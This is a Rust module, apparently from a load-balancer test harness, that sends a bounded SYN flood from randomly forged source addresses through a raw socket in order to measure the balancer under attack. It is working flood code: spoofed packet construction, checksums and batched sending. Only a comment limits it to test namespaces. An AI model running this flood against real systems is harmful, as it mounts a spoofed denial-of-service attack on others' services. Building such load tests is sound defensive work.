//! A bounded SYN flood from spoofed sources, for measuring the LB under
//! attack inside test namespaces: TCP SYNs to one destination (the VIP),
//! from random addresses of one prefix and random ports, through a raw
//! socket in batches (`sendmmsg`). Stops at `count` packets or after `max`
//! time, whichever comes first; an optional rate paces it.
//!
//! Run it only inside a namespace a test created: the packets carry forged
//! source addresses.

use std::{
    io,
    net::{Ipv4Addr, SocketAddrV4},
    time::{Duration, Instant},
};

use crate::wire;

/// What to send.
#[derive(Debug, Clone)]
pub struct Flood {
    pub target: SocketAddrV4,
    /// Forged sources are drawn from `source_net/prefix_len`.
    pub source_net: Ipv4Addr,
    pub prefix_len: u8,
    /// At most this many SYNs ...
    pub count: u64,
    /// ... and for at most this long.
    pub max: Duration,
    /// Packets per second (0: as fast as the socket takes them).
    pub rate: u64,
}

/// What was sent.
#[derive(Debug, Clone, Copy)]
pub struct Sent {
    pub packets: u64,
    pub elapsed: Duration,
}

impl Sent {
    pub fn rate(&self) -> f64 {
        self.packets as f64 / self.elapsed.as_secs_f64().max(1e-9)
    }
}

const BATCH: usize = 64;
/// IPv4 (20) + TCP (20) + MSS option (4): a SYN as a stack sends it, so a
/// SYN cookie has an MSS to encode.
const SYN_LEN: usize = 44;

/// xorshift64*: fast, and reproducible from its seed.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
}

/// One SYN from `src:sport` to the target, checksums filled in.
fn syn(buf: &mut [u8; SYN_LEN], src: Ipv4Addr, sport: u16, seq: u32, target: SocketAddrV4) {
    buf.fill(0);
    let (ip, tcp) = buf.split_at_mut(20);
    ip[0] = 0x45;
    ip[2..4].copy_from_slice(&(SYN_LEN as u16).to_be_bytes());
    ip[6] = 0x40; // DF
    ip[8] = 64;
    ip[9] = 6;
    ip[12..16].copy_from_slice(&src.octets());
    ip[16..20].copy_from_slice(&target.ip().octets());
    let c = wire::checksum(ip);
    ip[10..12].copy_from_slice(&c.to_be_bytes());
    tcp[0..2].copy_from_slice(&sport.to_be_bytes());
    tcp[2..4].copy_from_slice(&target.port().to_be_bytes());
    tcp[4..8].copy_from_slice(&seq.to_be_bytes());
    tcp[12] = 6 << 4; // 24-byte header
    tcp[13] = 0x02; // SYN
    tcp[14..16].copy_from_slice(&64240u16.to_be_bytes());
    tcp[20..24].copy_from_slice(&[2, 4, 0x05, 0xb4]); // MSS 1460
    let mut pseudo = Vec::with_capacity(12 + tcp.len());
    pseudo.extend_from_slice(&src.octets());
    pseudo.extend_from_slice(&target.ip().octets());
    pseudo.extend_from_slice(&[0, 6]);
    pseudo.extend_from_slice(&((SYN_LEN - 20) as u16).to_be_bytes());
    pseudo.extend_from_slice(tcp);
    let c = wire::checksum(&pseudo);
    tcp[16..18].copy_from_slice(&c.to_be_bytes());
}

/// Send the flood from the current thread's network namespace.
pub fn syn_flood(f: &Flood, seed: u64) -> io::Result<Sent> {
    // SAFETY: plain socket call; the descriptor is closed below.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    let result = send_all(fd, f, seed);
    // SAFETY: our descriptor.
    unsafe { libc::close(fd) };
    result
}

fn send_all(fd: i32, f: &Flood, seed: u64) -> io::Result<Sent> {
    let host_bits = 32 - u32::from(f.prefix_len.min(32));
    let mask = if host_bits == 32 {
        u32::MAX
    } else {
        (1u32 << host_bits) - 1
    };
    let net = u32::from(f.source_net) & !mask;
    let mut rng = Rng(seed | 1);
    let mut bufs = [[0u8; SYN_LEN]; BATCH];
    // SAFETY: all-zero is a valid sockaddr_in.
    let mut to: libc::sockaddr_in = unsafe { std::mem::zeroed() };
    to.sin_family = libc::AF_INET as u16;
    to.sin_addr.s_addr = u32::from(*f.target.ip()).to_be();
    let began = Instant::now();
    let mut sent = 0u64;
    while sent < f.count && began.elapsed() < f.max {
        let n = BATCH.min((f.count - sent) as usize);
        for b in bufs.iter_mut().take(n) {
            let r = rng.next();
            let src = Ipv4Addr::from(net | (r as u32 & mask));
            syn(
                b,
                src,
                1024 + (r >> 32) as u16 % 64000,
                (r >> 16) as u32,
                f.target,
            );
        }
        let mut iov: Vec<libc::iovec> = bufs
            .iter_mut()
            .take(n)
            .map(|b| libc::iovec {
                iov_base: b.as_mut_ptr().cast(),
                iov_len: SYN_LEN,
            })
            .collect();
        let mut msgs: Vec<libc::mmsghdr> = iov
            .iter_mut()
            .map(|v| {
                // SAFETY: all-zero is a valid msghdr.
                let mut h: libc::mmsghdr = unsafe { std::mem::zeroed() };
                h.msg_hdr.msg_name = (&mut to as *mut libc::sockaddr_in).cast();
                h.msg_hdr.msg_namelen = std::mem::size_of::<libc::sockaddr_in>() as u32;
                h.msg_hdr.msg_iov = v;
                h.msg_hdr.msg_iovlen = 1;
                h
            })
            .collect();
        // SAFETY: `msgs` points at live buffers for the call's duration.
        let r = unsafe { libc::sendmmsg(fd, msgs.as_mut_ptr(), n as u32, 0) };
        if r < 0 {
            let e = io::Error::last_os_error();
            // A full device queue: let it drain.
            if e.raw_os_error() == Some(libc::ENOBUFS) {
                std::thread::yield_now();
                continue;
            }
            return Err(e);
        }
        sent += r as u64;
        if f.rate > 0 {
            let due = Duration::from_secs_f64(sent as f64 / f.rate as f64);
            if let Some(wait) = due.checked_sub(began.elapsed()) {
                std::thread::sleep(wait);
            }
        }
    }
    Ok(Sent {
        packets: sent,
        elapsed: began.elapsed(),
    })
}
